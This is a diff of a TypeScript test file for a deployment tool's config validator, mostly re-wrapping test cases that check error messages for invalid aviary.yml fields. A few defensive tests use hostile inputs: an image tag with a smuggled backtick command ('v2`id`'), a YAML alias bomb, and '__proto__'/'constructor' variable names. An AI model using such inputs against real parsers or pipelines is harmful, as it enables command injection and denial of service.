-    ['container.env', { BIG: 'x'.repeat(5000) }, 'container.env.BIG: a string of 5000 characters is too long (at most 4096; expected a string, a number or true/false)'],
+    [
+      'container.ports',
+      'x'.repeat(5000),
+      `container.ports: "${'x'.repeat(75)}…" is not a list of port mappings like ["8080:8080"]`,
+    ],
+    [
+      'container.env',
+      { BIG: 'x'.repeat(5000) },
+      'container.env.BIG: a string of 5000 characters is too long (at most 4096; expected a string, a number or true/false)',
+    ],
     ['strategy.batches', [1, '25', '100%'], 'strategy.batches[1]: "25" is not a count or a percentage like "25%"'],
     ['strategy.batches', [], 'strategy.batches: [] is not a non-empty list of batch sizes like [1, "25%", "100%"]'],
     ['strategy.batches', [1, '150%'], 'strategy.batches[1]: "150%" is not a percentage above 0% and at most 100%'],
@@ -402,33 +720,73 @@ describe('invalid files', () => {
     ['strategy.batches', [0], 'strategy.batches[0]: 0 is not a count or a percentage like "25%"'],
     ['strategy.batches', [1e9], 'strategy.batches[0]: 1000000000 is not a count from 1 to 10000'],
     ['strategy.max-unhealthy', '120%', 'strategy.max-unhealthy: "120%" is not a percentage from 0% to 100%'],
-    ['strategy.max-unhealthy', -1, 'strategy.max-unhealthy: -1 is not a count of hosts (0 or more) or a percentage like "10%"'],
+    [
+      'strategy.max-unhealthy',
+      -1,
+      'strategy.max-unhealthy: -1 is not a count of hosts (0 or more) or a percentage like "10%"',
+    ],
     ['strategy.parallel', 0, 'strategy.parallel: 0 is not a whole number from 1 to 1024'],
     ['strategy.parallel', 5000, 'strategy.parallel: 5000 is not a whole number from 1 to 1024'],
     ['strategy.keep', -1, 'strategy.keep: -1 is not a whole number from 0 to 100'],
-    ['strategy.pause', 5, 'strategy.pause: 5 is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)'],
+    [
+      'strategy.pause',
+      5,
+      'strategy.pause: 5 is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
+    ],
     ['strategy.batchs', [1], 'strategy.batchs: is not a known field (did you mean "batches"?)'],
     ['strategy.max_unhealthy', 1, 'strategy.max_unhealthy: is not a known field (did you mean "max-unhealthy"?)'],
     ['strategy.deadline', '1m', 'strategy.deadline: is not a known field (deadline belongs in health)'],
     ['heath', {}, 'heath: is not a known field (did you mean "health"?)'],
-    ['health.command', '/bin/check', 'health.command: "/bin/check" is not a list of strings like ["/bin/check"] (no shell runs it: write each argument as its own item)'],
+    [
+      'health.command',
+      '/bin/check',
+      'health.command: "/bin/check" is not a list of strings like ["/bin/check"] (no shell runs it: write each argument as its own item)',
+    ],
     ['health.command', [], 'health.command: [] is not a list of strings like ["/bin/check"]'],
-    ['health.command', { run: '/bin/check' }, 'health.command: {"run":"/bin/check"} is not a list of strings like ["/bin/check"]'],
+    [
+      'health.command',
+      { run: '/bin/check' },
+      'health.command: {"run":"/bin/check"} is not a list of strings like ["/bin/check"]',
+    ],
     ['health.command', ['/bin/check', ''], 'health.command[1]: "" is not a non-empty string'],
     ['health.http', { path: '/health' }, 'health.http.port: is missing (expected a port number from 1 to 65535)'],
-    ['health.http', { port: 80, path: 'health' }, 'health.http.path: "health" is not a URL path like "/health" (starting with "/", no spaces)'],
-    ['health.http', { port: 80, status: '600' }, 'health.http.status: "600" is not a status like 200, "200-299" or "2xx"'],
+    [
+      'health.http',
+      { port: 80, path: 'health' },
+      'health.http.path: "health" is not a URL path like "/health" (starting with "/", no spaces)',
+    ],
+    [
+      'health.http',
+      { port: 80, status: '600' },
+      'health.http.status: "600" is not a status like 200, "200-299" or "2xx"',
+    ],
     ['health.http', { port: 80, scheme: 'ftp' }, 'health.http.scheme: "ftp" is not http or https'],
-    ['health.http', { port: 80, 'body-regex': '(' }, 'health.http.body-regex: "(" is not a valid regular expression (Invalid regular expression: /(/: Unterminated group)'],
-    ['health.http', { port: 80, body: 'ok', 'body-regex': 'ok' }, 'health.http.body: give body or body-regex, not both'],
+    [
+      'health.http',
+      { port: 80, 'body-regex': '(' },
+      'health.http.body-regex: "(" is not a valid regular expression (Invalid regular expression: /(/: Unterminated group)',
+    ],
+    [
+      'health.http',
+      { port: 80, body: 'ok', 'body-regex': 'ok' },
+      'health.http.body: give body or body-regex, not both',
+    ],
     ['health.tcp', { port: '8080' }, 'health.tcp.port: "8080" is not a port number from 1 to 65535'],
     ['health.docker-health', 'yes', 'health.docker-health: "yes" is not true or false'],
     ['health.interval', '0s', 'health.interval: "0s" is not a duration greater than 0, like "2s"'],
     ['health.deadline', '30d', 'health.deadline: "30d" is not a duration like "500ms", "2s" or "5m" (at most 7 days)'],
-    ['health.deadline', '200h', 'health.deadline: "200h" is not a duration like "500ms", "2s" or "5m" (at most 7 days)'],
+    [
+      'health.deadline',
+      '200h',
+      'health.deadline: "200h" is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
+    ],
     ['health.healthy-threshold', 0, 'health.healthy-threshold: 0 is not a whole number from 1 to 100'],
     ['lock-timeout', '0', 'lock-timeout: "0" is not a duration greater than 0, like "2s"'],
-    ['groups.web.strategy', { 'max-unhealthy': 1 }, 'groups.web.strategy.max-unhealthy: is the failure budget of the whole rollout, not of a group: set it in the top-level strategy (or the max-unhealthy input)'],
+    [
+      'groups.web.strategy',
+      { 'max-unhealthy': 1 },
+      'groups.web.strategy.max-unhealthy: is the failure budget of the whole rollout, not of a group: set it in the top-level strategy (or the max-unhealthy input)',
+    ],
   ])('%s (case %#)', (field, value, message) => {
     expect(problemsOf(minimalWith(field, value), { path: '/nonexistent/aviary.yml' })).toEqual([message]);
   });
@@ -436,15 +794,39 @@ describe('invalid files', () => {
   test.each<[string, ConfigOverrides, string]>([
     ['groups', { groups: 'web,db' }, 'input groups: "db" is not a group in the config (known: web)'],
     ['batches', { batches: '1,x' }, 'input batches[1]: "x" is not a count or a percentage like "25%"'],
-    ['batches', { batches: '[1, "25%"' }, 'input batches: "[1, \\"25%\\"" is not a list like "1,25%,100%" or [1, "25%", "100%"]'],
+    [
+      'batches',
+      { batches: '[1, "25%"' },
+      'input batches: "[1, \\"25%\\"" is not a list like "1,25%,100%" or [1, "25%", "100%"]',
+    ],
     ['parallel', { parallel: 'many' }, 'input parallel: "many" is not a whole number from 1 to 1024'],
     ['max-unhealthy', { maxUnhealthy: '101%' }, 'input max-unhealthy: "101%" is not a percentage from 0% to 100%'],
-    ['pause', { pause: '-1s' }, 'input pause: "-1s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)'],
+    [
+      'pause',
+      { pause: '-1s' },
+      'input pause: "-1s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
+    ],
     ['keep', { keep: '1000' }, 'input keep: 1000 is not a whole number from 0 to 100'],
-    ['lock-timeout', { lockTimeout: '1y' }, 'input lock-timeout: "1y" is not a duration like "500ms", "2s" or "5m" (at most 7 days)'],
-    ['image', { image: 'Registry Example/web' }, 'input image: "Registry Example/web" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"'],
-    ['image', { image: 'sha256:abc' }, 'input image: "sha256:abc" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"'],
-    ['image', { image: 'v2`id`' }, 'input image: "v2`id`" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"'],
+    [
+      'lock-timeout',
+      { lockTimeout: '1y' },
+      'input lock-timeout: "1y" is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
+    ],
+    [
+      'image',
+      { image: 'Registry Example/web' },
+      'input image: "Registry Example/web" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
+    ],
+    [
+      'image',
+      { image: 'sha256:abc' },
+      'input image: "sha256:abc" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
+    ],
+    [
+      'image',
+      { image: 'v2`id`' },
+      'input image: "v2`id`" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
+    ],
   ])('input %s', (_name, overrides, message) => {
     expect(problemsOf(MINIMAL, { overrides })).toEqual([message]);
   });
@@ -456,21 +838,27 @@ describe('invalid files', () => {
   });
 
   test('the CLI can name its flags in problems', () => {
-    expect(problemsOf(MINIMAL, { overrides: { parallel: '0' }, inputName: (n) => `--${n}` })).toEqual(['--parallel: 0 is not a whole number from 1 to 1024']);
+    expect(problemsOf(MINIMAL, { overrides: { parallel: '0' }, inputName: (n) => `--${n}` })).toEqual([
+      '--parallel: 0 is not a whole number from 1 to 1024',
+    ]);
   });
 
-  test('a missing secret is named, never its neighbours\' values', () => {
+  test("a missing secret is named, never its neighbours' values", () => {
     const text = minimalWith('container.secret-env', ['DATABASE_URL', 'API_TOKEN']);
     const problems = problemsOf(text, { env: { DATABASE_URL: 'postgres://u:hunter2@db/app', API_TOKEN: '' } });
-    expect(problems).toEqual([`container.secret-env[1]: environment variable API_TOKEN is not set (expected its value in the step's env, e.g. API_TOKEN: \${{ secrets.API_TOKEN }})`]);
+    expect(problems).toEqual([
+      `container.secret-env[1]: environment variable API_TOKEN is not set (expected its value in the step's env, e.g. API_TOKEN: \${{ secrets.API_TOKEN }})`,
+    ]);
     expect(problems.join('\n')).not.toContain('hunter2');
   });
 
   test('secrets and TLS files are only resolved for the groups being deployed', () => {
-    const text = MINIMAL + `  db:\n    hosts: [{docker: "tcp://10.0.0.9:2376", tls: {ca: DB_CA}}]\n    container: {secret-env: [DB_PASSWORD]}\n`;
+    const text =
+      MINIMAL +
+      `  db:\n    hosts: [{docker: "tcp://10.0.0.9:2376", tls: {ca: DB_CA}}]\n    container: {secret-env: [DB_PASSWORD]}\n`;
     expect(load(text, { overrides: { groups: 'web' } }).groups.map((g) => g.name)).toEqual(['web']);
     expect(problemsOf(text)).toEqual([
-      'groups.db.container.secret-env[0]: environment variable DB_PASSWORD is not set (expected its value in the step\'s env, e.g. DB_PASSWORD: ${{ secrets.DB_PASSWORD }})',
+      "groups.db.container.secret-env[0]: environment variable DB_PASSWORD is not set (expected its value in the step's env, e.g. DB_PASSWORD: ${{ secrets.DB_PASSWORD }})",
       'groups.db.hosts[0].tls.ca: environment variable DB_CA is not set (expected it to hold PEM text)',
     ]);
   });
@@ -483,7 +871,9 @@ describe('invalid files', () => {
   });
 
   test('variable names that exist on every object are still just names', () => {
-    const config = load(MINIMAL + 'container:\n  env: {__proto__: x}\n  secret-env: [constructor]\n', { env: { constructor: 'c-value' } });
+    const config = load(MINIMAL + 'container:\n  env: {__proto__: x}\n  secret-env: [constructor]\n', {
+      env: { constructor: 'c-value' },
+    });
     expect(Object.keys(config.groups[0].container.env)).toEqual(['__proto__']);
     expect(config.groups[0].container.secretEnv).toEqual({ constructor: 'c-value' });
     expect(problemsOf(MINIMAL + 'container:\n  secret-env: [constructor, toString]\n', { env: {} })).toHaveLength(2);
@@ -491,11 +881,16 @@ describe('invalid files', () => {
 
   test('duplicate hosts are found across groups', () => {
     const text = MINIMAL + '  worker:\n    hosts: [tcp://10.210.0.11:2375]\n';
-    expect(problemsOf(text)).toEqual(['groups.worker.hosts[0]: "tcp://10.210.0.11:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)']);
+    expect(problemsOf(text)).toEqual([
+      'groups.worker.hosts[0]: "tcp://10.210.0.11:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
+    ]);
   });
 
   test.each([
-    ['service: web\ngroups: [\n', 'aviary.yml:3:1: Flow sequence in block collection must be sufficiently indented and end with a ]'],
+    [
+      'service: web\ngroups: [\n',
+      'aviary.yml:3:1: Flow sequence in block collection must be sufficiently indented and end with a ]',
+    ],
     ['service: web\nservice: api\n', 'aviary.yml:2:1: Map keys must be unique'],
     ['service: "web\n', 'aviary.yml:2:1: Missing closing "quote'],
     ['', 'config: "aviary.yml" is empty (expected a mapping with service, image and groups)'],
@@ -507,13 +902,22 @@ describe('invalid files', () => {
 
   test('an alias bomb is refused, not expanded', () => {
     const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
-    for (let i = 1; i < 10; i++) lines.push(`a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(', ')}]`);
+    for (let i = 1; i < 10; i++)
+      lines.push(
+        `a${i}: &a${i} [${Array(10)
+          .fill(`*a${i - 1}`)
+          .join(', ')}]`,
+      );
     const problems = problemsOf(lines.join('\n') + '\n');
     expect(problems[0]).toMatch(/^aviary\.yml: expands to more than 100000 values/);
   });
 
   test('a missing file', () => {
-    expect(() => loadConfig({ path: '/nonexistent/aviary.yml' })).toThrow(new InputError('config: file "/nonexistent/aviary.yml" was not found (expected an aviary.yml; see examples/aviary.yml)'));
+    expect(() => loadConfig({ path: '/nonexistent/aviary.yml' })).toThrow(
+      new InputError(
+        'config: file "/nonexistent/aviary.yml" was not found (expected an aviary.yml; see examples/aviary.yml)',
+      ),
+    );
   });
 
   test('a file with many problems reports all of them at once', () => {
